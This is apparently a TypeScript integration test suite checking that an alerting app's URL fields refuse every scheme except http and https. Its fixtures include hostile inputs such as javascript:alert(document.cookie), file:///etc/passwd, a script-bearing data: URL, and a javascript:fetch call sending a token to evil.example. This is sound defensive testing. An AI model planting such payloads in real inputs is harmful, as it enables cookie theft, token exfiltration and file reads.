import { TRPCError } from "@trpc/server";
import { count, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { integrations, templates } from "~/db/schema";
import { DomainError } from "~/core/domain-error";
import { BUILTIN_TEMPLATE_DEFINITIONS } from "~/core/flow-templates/builtin";
import { webhook } from "~/test-support/flow-fixtures";
import { edge, graphOf, integrationNode, levelNode, triggerNode } from "~/test-support/graph-builder";
import { createHarness, type Harness } from "~/test-support/harness";

/**
 * URL fields take http and https only, refused where they are saved or tried (create, update,
 * preview, test-send, template import) with a 400 naming the field: through the real routers on
 * real Postgres.
 */
let h: Harness;
beforeAll(async () => {
  h = await createHarness();
});
afterAll(async () => {
  await h?.close();
});

const HOSTILE = [
  "javascript:alert(1)",
  "file:///etc/passwd",
  "data:text/html,<script>alert(1)</script>",
  "ftp://files.example.com/alerts",
  " \tJava\nScript:alert(1)",
];

async function refusal(call: Promise<unknown>): Promise<{ code: string; message: string; paths: string[] }> {
  const error: unknown = await call.then(
    () => undefined,
    (e: unknown) => e,
  );
  if (!(error instanceof TRPCError)) throw new Error(`expected a refusal, got ${String(error)}`);
  const domain = error.cause instanceof DomainError ? error.cause : undefined;
  const paths = (domain?.details.issues ?? []).flatMap((i) =>
    "path" in i && typeof i.path === "string" ? [i.path] : [],
  );
  return { code: error.code, message: error.message, paths };
}

const integrationCount = async () =>
  (await h.db.select({ n: count() }).from(integrations).where(eq(integrations.workspaceId, h.workspaceId)))[0]?.n;

const create = (
  type: string,
  variables: Record<string, string>,
  secrets: Record<string, string> = {},
  customizations = {},
) => h.api.integrations.create({ type, name: `URL ${type}`, variables, secrets, customizations, enabled: true });

describe("URL fields refuse every scheme but http(s)", () => {
  it.each(HOSTILE)("refuses %j as a webhook's ApiUrl at create, and stores nothing", async (url) => {
    const before = await integrationCount();
    const answer = await refusal(create("webhook", { ApiUrl: url }));
    expect(answer.code).toBe("BAD_REQUEST");
    expect(answer.message).toMatch(/^ApiUrl must be an http or https URL, not [a-z]+:$/);
    expect(answer.paths).toEqual(["variables.ApiUrl"]);
    expect(await integrationCount()).toBe(before);
  });

  it("refuses secret URL fields (Slack, Teams) without repeating them, and every other URL field of the catalogue", async () => {
    const slack = await refusal(
      create("slack", {}, { WebhookUrl: "javascript:fetch('https://evil.example/?T0KEN')", SigningSecret: "x" }),
    );
    expect(slack.paths).toEqual(["secrets.WebhookUrl"]);
    expect(slack.message).not.toContain("T0KEN");
    expect((await refusal(create("teams", {}, { WorkflowUrl: "file:///etc/passwd" }))).paths).toEqual([
      "secrets.WorkflowUrl",
    ]);
    const fields: [string, string][] = [
      ["servicenow", "InstanceUrl"],
      ["splunk-oncall", "SplunkOnCallUrl"],
      ["statushub", "HookUrl"],
      ["pagerduty", "ApiUrl"],
      ["opsgenie", "ApiUrl"],
      ["alertops", "ApiUrl"],
      ["statuspage", "ApiUrl"],
    ];
    for (const [type, name] of fields) {
      expect((await refusal(create(type, { [name]: "ftp://x.example/" }))).paths, type).toEqual([`variables.${name}`]);
    }
  });

  it("refuses a text that is no absolute URL at save, and a step URL with a foreign scheme", async () => {
    expect((await refusal(create("webhook", { ApiUrl: "hooks.example.com/alert" }))).paths).toEqual([
      "variables.ApiUrl",
    ]);
    const step = {
      stepDefinitions: [
        {
          messageTypes: ["error"],
          steps: [{ name: "Send", method: "POST", url: "gopher://{{ApiUrl}}/x", headers: {}, body: { type: "none" } }],
        },
      ],
    };
    const answer = await refusal(create("webhook", { ApiUrl: "https://hooks.example.com" }, {}, step));
    expect(answer.code).toBe("BAD_REQUEST");
    expect(answer.paths).toEqual(["stepDefinitions.0.steps.0.url"]);
  });

  it("refuses a bad URL at update, in a preview and in a test-send, and keeps the stored one", async () => {
    const integrationId = await webhook(h, "URL update", "https://hooks.example.com/ok");
    const update = await refusal(
      h.api.integrations.update({ integrationId, variables: { ApiUrl: "javascript:alert(document.cookie)" } }),
    );
    expect(update).toMatchObject({ code: "BAD_REQUEST", paths: ["variables.ApiUrl"] });
    expect((await h.api.integrations.get({ integrationId })).variables).toEqual({
      ApiUrl: "https://hooks.example.com/ok",
    });

    const draft = {
      type: "webhook" as const,
      variables: { ApiUrl: "data:text/plain,x" },
      secrets: {},
      customizations: {},
    };
    const preview = await refusal(h.api.integrations.preview({ draft, messageType: "error" }));
    expect(preview).toMatchObject({ code: "BAD_REQUEST", paths: ["variables.ApiUrl"] });
    const testSend = await refusal(h.api.integrations.testSend({ integrationId, draft, messageType: "error" }));
    expect(testSend).toMatchObject({ code: "BAD_REQUEST", paths: ["variables.ApiUrl"] });
    // A level's own value for a per-level URL is checked the same way.
    const perLevel = await refusal(
      h.api.integrations.testSend({ integrationId, messageType: "error", levelVariables: { ApiUrl: "file:///x" } }),
    );
    expect(perLevel).toMatchObject({ code: "BAD_REQUEST", paths: ["variables.ApiUrl"] });
  });

  it("refuses a template file whose integration node carries a per-level URL of another scheme", async () => {
    const found = BUILTIN_TEMPLATE_DEFINITIONS.find((t) => t.key === "slack-pagerduty-sms");
    if (!found) throw new Error("builtin template missing");
    const valid = JSON.stringify(found.document);
    const hostile = valid.replace(
      '"data":{"label":"Team channel"',
      '"data":{"variables":{"ApiUrl":"javascript:alert(1)"},"label":"Team channel"',
    );
    expect(hostile).not.toBe(valid);
    const before = (await h.db.select({ n: count() }).from(templates))[0]?.n;
    const answer = await refusal(h.api.templates.import({ fileText: hostile }));
    expect(answer.code).toBe("BAD_REQUEST");
    expect(answer.message).toMatch(/ApiUrl must be an http or https URL, not javascript:/);
    expect(answer.paths.some((p) => /^graph\.nodes\.\d+\.data\.variables\.ApiUrl$/.test(p))).toBe(true);
    expect((await h.db.select({ n: count() }).from(templates))[0]?.n).toBe(before);
  });

  it("refuses a per-level URL of another scheme when a flow draft is saved, naming the node and field", async () => {
    const integrationId = await webhook(h, "URL per level", "https://hooks.example.com/ok");
    const withLevelUrl = (ApiUrl: string) =>
      graphOf(
        [
          triggerNode("t"),
          levelNode("l1", { level: 1 }),
          integrationNode("i1", { integrationId, variables: { ApiUrl } }),
        ],
        [edge("t", "out", "l1"), edge("l1", "out", "i1")],
      );
    const { id: flowId } = await h.api.flows.create({
      name: "Per-level URL",
      description: "",
      graph: withLevelUrl(""),
    });
    const { revision } = await h.api.flows.get({ flowId });
    for (const url of HOSTILE) {
      const answer = await refusal(h.api.flows.saveDraft({ flowId, graph: withLevelUrl(url) }));
      expect(answer.code, url).toBe("BAD_REQUEST");
      expect(answer.message, url).toMatch(/ApiUrl must be an http or https URL, not [a-z]+:/);
      expect(answer.paths, url).toEqual(["nodes.2.data.variables.ApiUrl"]);
    }
    expect(
      await refusal(h.api.flows.create({ name: "x", description: "", graph: withLevelUrl("file:///x") })),
    ).toMatchObject({ code: "BAD_REQUEST", paths: ["nodes.2.data.variables.ApiUrl"] });
    expect((await h.api.flows.get({ flowId })).revision).toBe(revision);
    // A URL still being typed (no scheme yet) is a draft like any other; publishing refuses it.
    await h.api.flows.saveDraft({ flowId, graph: withLevelUrl("hooks.exam") });
    expect((await refusal(h.api.flows.publish({ flowId, note: "" }))).paths).toEqual(["nodes.2.data.variables.ApiUrl"]);
  });
});
